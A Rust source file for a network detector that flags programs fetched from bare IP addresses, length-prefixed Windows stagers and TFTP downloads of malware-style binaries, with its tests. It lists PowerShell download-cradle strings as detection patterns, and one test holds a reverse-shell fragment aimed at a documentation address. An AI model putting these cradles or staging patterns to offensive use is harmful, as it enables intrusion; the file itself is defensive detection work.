//! # Program fetched from a bare address
//!
//! ## What it finds
//! A device that fetches a program over plain HTTP from a host that has no name.
//! ## Why it matters
//! Malware fetches its next part so; makers of devices use names and encryption.
//! ## How it decides
//! The answer to a GET begins as a program does (ELF, `MZ` with a PE header, a shell script), and the host was asked for
//! by its address, or the name of the file is one of a processor (`.arm7`, `mips`, `x86`), or the kind that was
//! announced is a picture, a page or a folder. Of scripts: those of a shell, and those of PowerShell that load and run
//! more, or call somebody. Also told: a service of the Internet whose first words are a length and a program of that length
//! (so loaders in memory get their second part, whatever the port); a file asked of the Internet by TFTP, high if it is one of a
//! processor, else low.
//! ## What fools it
//! Programs in archives; anything encrypted.
//! ## What to do
//! Look what runs on that device.
//!
//! Leaves out: hosts of the home. Holds 256 conversations.

use std::net::IpAddr;

use crate::{
    detectors::{
        Context, Detector, Evidence, Needs,
        usual::{Bell, Usual},
    },
    model::{Capped, Card, Category, Finding, Findings, Port, Severity, clean_text, holds, is_private, is_unicast},
    traffic::{End, Talkers, What},
    wire::{Frame, protocol},
};

pub static CARD: Card = Card {
    id: "tool_download",
    title: "Program fetched from a bare address",
    needs: Some("CAP_NET_RAW"),
    page: include_str!("tool_download.rs"),
};

pub type Settings = Usual;

/// Names that builders of malware give to what is for one processor.
const PROCESSORS: [&str; 12] =
    [".arm", ".arm5", ".arm6", ".arm7", ".mips", ".mpsl", ".mipsel", ".x86", ".ppc", ".sh4", ".m68k", ".spc"];
/// RFC 1350 §4.
const TFTP: Port = 69;
/// Endings that promise something harmless.
const HARMLESS: [&str; 8] = [".png", ".jpg", ".jpeg", ".gif", ".txt", ".html", ".ico", ".css"];

/// What scripts of PowerShell say that load and run something, or let somebody in; in lower case.
const CRADLES: [&[u8]; 6] = [
    b"net.sockets.tcpclient(",
    b"new-object net.webclient",
    b"new-object system.net.webclient",
    b").downloadstring(",
    b"invoke-expression",
    b"[system.convert]::frombase64string(",
];

fn holds_any_case(body: &[u8], sign: &[u8]) -> bool {
    let Some(first) = sign.first() else { return false };
    let mut places = memchr::memchr2_iter(*first, first.to_ascii_uppercase(), body);
    places.any(|at| body.get(at..at + sign.len()).is_some_and(|part| part.eq_ignore_ascii_case(sign)))
}

/// A length that a program of Windows may have, and one that loads others is not smaller.
const STAGE: std::ops::Range<u32> = 10_000..(64 << 20);
const AWAITED_MAX: usize = 256;

/// See the page above.
pub struct ToolDownload {
    bell: Bell,
    /// Services that have said four bytes, which may be a length.
    awaited: Capped<(End, End), ()>,
}

/// A program of a `kind` that came over this conversation.
fn fetched(talk: &Talkers, kind: &str, context: &Context<'_>) -> Finding {
    let (client, server) = (talk.client, talk.server);
    let key = format!("{} {}", client.ip, server.ip);
    Finding::new(CARD.id, Category::Malware, Severity::High, key, context.now)
        .by(client.party())
        .against(server.party())
        .why("kind", kind)
        .technique(&["T1105"])
}

impl ToolDownload {
    #[must_use]
    pub fn new(settings: Settings) -> ToolDownload {
        ToolDownload { bell: Bell::new(settings), awaited: Capped::new(AWAITED_MAX) }
    }
}

fn program(body: &[u8]) -> Option<&'static str> {
    match body {
        [0x7f, b'E', b'L', b'F', ..] => Some("ELF"),
        [b'M', b'Z', ..] if holds(body, b"PE\0\0") || holds(body, b"DOS mode") => Some("PE"),
        [b'#', b'!', b'/', ..] if holds(body, b"sh") => Some("script"),
        _ if CRADLES.iter().any(|sign| holds_any_case(body, sign)) && !body.starts_with(b"<") => Some("script"),
        _ => None,
    }
}

/// The file that a read request of TFTP asks for (RFC 1350 §5).
fn requested(payload: &[u8]) -> Option<&[u8]> {
    let rest = payload.strip_prefix(&[0, 1])?;
    let mut words = rest.split(|byte| *byte == 0);
    let (file, mode) = (words.next()?, words.next()?);
    let known: [&[u8]; 2] = [b"octet", b"netascii"];
    known.iter().any(|known| mode.eq_ignore_ascii_case(known)).then_some(file)
}

impl ToolDownload {
    /// A service that says a length and a program, and nothing before.
    fn staged(&mut self, talk: &Talkers, from: u32, bytes: &[u8], context: &Context<'_>, findings: &mut Findings) {
        let (client, server) = (talk.client, talk.server);
        if talk.protocol != protocol::TCP || is_private(server.ip) || server.mac.is_some() && client.mac.is_none() {
            return;
        }
        let body = match bytes {
            [a, b, c, d, body @ ..] if from == 0 && STAGE.contains(&u32::from_le_bytes([*a, *b, *c, *d])) => body,
            _ if from == 4 && self.awaited.contains(&(client, server)) => bytes,
            _ => return,
        };
        if from == 0 && body.is_empty() {
            self.awaited.insert((client, server), ());
        }
        if program(body) != Some("PE") {
            return;
        }
        let finding = fetched(talk, "PE", context)
            .why("destination", server.ip)
            .why("path", format!("port {}", server.port))
            .points(6.5);
        self.bell.ring(finding, findings);
    }

    /// A file asked of the Internet by TFTP, which nothing but loaders of small systems speaks. Telephones of some
    /// providers fetch their settings so: only a program for one processor is told as high.
    fn asked(&mut self, frame: &Frame<'_>, context: &Context<'_>, findings: &mut Findings) {
        let (Some(udp), Some((from, to))) = (frame.udp(), frame.addresses()) else { return };
        if udp.destination != TFTP || is_private(to) || !is_unicast(to) {
            return;
        }
        let Some(file) = requested(udp.payload) else { return };
        let file = String::from_utf8_lossy(file).to_ascii_lowercase();
        let processor = PROCESSORS.iter().any(|end| file.ends_with(end));
        let severity = if processor { Severity::High } else { Severity::Low };
        let finding = Finding::new(CARD.id, Category::Malware, severity, format!("{from} {to} tftp"), context.now)
            .by(context.neighbours.party(from, frame.source))
            .against(context.neighbours.party(to, frame.destination))
            .why("kind", "TFTP")
            .why("destination", to)
            .why("path", clean_text(&file, 64))
            .technique(&["T1105"])
            .points(5.5);
        self.bell.ring(finding, findings);
    }
}

impl Detector for ToolDownload {
    fn card(&self) -> &'static Card {
        &CARD
    }

    fn needs(&self) -> &'static [Needs] {
        &[Needs::Http, Needs::Udp, Needs::Said]
    }

    fn held(&self) -> usize {
        self.bell.held() + self.awaited.len()
    }

    fn examine(&mut self, evidence: Evidence<'_>, context: &Context<'_>, findings: &mut Findings) {
        let noticed = match evidence {
            Evidence::Packet(frame) => return self.asked(frame, context, findings),
            Evidence::Traffic(noticed) => noticed,
            _ => return,
        };
        if let What::Said { by_client: false, from, bytes } = &noticed.what {
            return self.staged(&noticed.talk, *from, bytes, context, findings);
        }
        let What::HttpAnswer(http) = &noticed.what else { return };
        let (client, server) = (noticed.talk.client, noticed.talk.server);
        if http.status != 200 || is_private(server.ip) || server.mac.is_some() && client.mac.is_none() {
            return;
        }
        let host = http.host.rsplit_once(':').map_or(http.host.as_str(), |(host, _)| host);
        let path = http.path.split('?').next().unwrap_or_default().to_ascii_lowercase();
        let bare = host.trim_matches(['[', ']']).parse::<IpAddr>().is_ok();
        let processor = PROCESSORS.iter().any(|end| path.ends_with(end));
        let harmless = path.ends_with('/') || HARMLESS.iter().any(|end| path.ends_with(end));
        // What is fetched is looked into only where the rest speaks for it.
        if !bare && !processor && !harmless {
            return;
        }
        let Some(kind) = program(&http.body) else { return };
        if !bare && !processor && kind == "script" {
            return;
        }
        let finding = fetched(&noticed.talk, kind, context)
            .why("destination", clean_text(host, 64))
            .why("path", clean_text(&path, 64))
            .points(if bare { 6.5 } else { 5.5 });
        self.bell.ring(finding, findings);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::stage::{Stage, between, datagram, ip, mac, segment};

    fn fetch(host: &str, path: &str, body: &[u8]) -> usize {
        let mut stage = Stage::new(ToolDownload::new(Settings::default()));
        let (me, other) = ((mac(9), ip(9)), (mac(1), [203, 0, 113, 9]));
        let ask = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let mut answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
        answer.extend(body);
        let count = stage.frame(&between(me, other, 6, &segment(40_000, 80, 16, 1, ask.as_bytes())), 0).len();
        count + stage.frame(&between(other, me, 6, &segment(80, 40_000, 16, 1, &answer)), 9).len()
    }

    #[test]
    fn a_second_part_that_comes_with_its_length_is_told() {
        let run = |parts: &[&[u8]]| -> usize {
            let mut stage = Stage::new(ToolDownload::new(Settings::default()));
            let (me, far) = ((mac(9), ip(9)), (mac(1), [203, 0, 113, 9]));
            stage.frame(&between(me, far, 6, &segment(40_000, 4321, 2, 1, b"")), 0);
            stage.frame(&between(far, me, 6, &segment(4321, 40_000, 18, 1, b"")), 1);
            stage.frame(&between(me, far, 6, &segment(40_000, 4321, 16, 2, b"")), 2);
            let mut at = 2;
            let tell = parts.iter().map(|part| {
                let frame = between(far, me, 6, &segment(4321, 40_000, 24, at, part));
                at += part.len() as u32;
                stage.frame(&frame, 3).len()
            });
            tell.sum()
        };
        let program = b"MZ\xe8\0\0\0\0\x5bThis program cannot be run in DOS mode.\r\r\n$";
        assert_eq!(run(&[&[0, 0xb0, 2, 0], program]), 1);
        assert_eq!(run(&[&[&[0, 0xb0, 2, 0][..], program].concat()]), 1);
        assert_eq!(run(&[program]), 0, "a file, as of FTP");
        assert_eq!(run(&[&[9, 0, 0, 0], program]), 0, "no length of a program");
    }

    #[test]
    fn a_loader_of_a_small_system_is_told() {
        let run = |file: &str, to: [u8; 4]| -> Vec<Severity> {
            let mut stage = Stage::new(ToolDownload::new(Settings::default()));
            let ask = [&[0, 1][..], file.as_bytes(), b"\0octet\0"].concat();
            let frame = between((mac(9), ip(9)), (mac(1), to), 17, &datagram(40_000, 69, &ask));
            stage.frame(&frame, 0).iter().map(|finding| finding.severity).collect()
        };
        let far = [203, 0, 113, 9];
        assert_eq!(run("bins/a.mips", far), [Severity::High]);
        assert_eq!(run("0004f2aabbcc.cfg", far), [Severity::Low]);
        assert!(run("pxelinux.0", ip(5)).is_empty(), "a computer that starts from the network");
    }

    #[test]
    fn programs_of_nameless_hosts_are_told() {
        assert_eq!(fetch("203.0.113.9", "/bins/a.arm7", b"\x7fELF\x01"), 1);
        assert_eq!(fetch("example.com", "/logo.png", b"MZ\x90\0This program cannot be run in DOS mode"), 1);
        assert_eq!(fetch("example.com", "/setup.exe", b"MZ\x90\0This program cannot be run in DOS mode"), 0);
        assert_eq!(fetch("203.0.113.9", "/logo.png", b"\x89PNG"), 0);
        let cradle = b"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s=$c.GetStream()";
        assert_eq!(fetch("203.0.113.9", "/a.ps1", cradle), 1);
        assert_eq!(fetch("example.com", "/install.ps1", cradle), 0, "of a host with a name");
        assert_eq!(
            fetch("203.0.113.9", "/help", b"<html>Use Invoke-Expression with care</html>"),
            0,
            "a page about it"
        );
    }
}
